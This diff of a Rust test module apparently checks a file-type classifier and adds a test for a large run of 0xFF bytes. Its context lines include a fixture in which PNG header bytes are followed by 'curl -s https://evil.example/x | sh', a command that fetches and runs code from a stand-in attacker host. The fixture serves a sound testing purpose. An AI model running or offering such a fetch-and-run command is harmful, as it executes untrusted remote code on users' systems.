@@ -269,6 +269,11 @@ mod tests {
         let script = [&b"\x89PNG\r\n\x1a\n"[..], b"\ncurl -s https://evil.example/x | sh\n"].concat();
         let text = "\\x89PNG\r\n\u{1a}\n\ncurl -s https://evil.example/x | sh\n";
         assert_eq!(between("a.png", None, &script), whole(text));
+        // Each of these bytes would become four characters.
+        assert_eq!(
+            between("a.sh", None, &vec![0xFF; 1024 * 1024 + 1]).2.as_deref(),
+            Some("application/octet-stream")
+        );
         assert_eq!(
             between("a", None, &[&b"\x7fELF\x02\x01\x01"[..], &[0; 100]].concat()),
             unseen("application/x-executable")
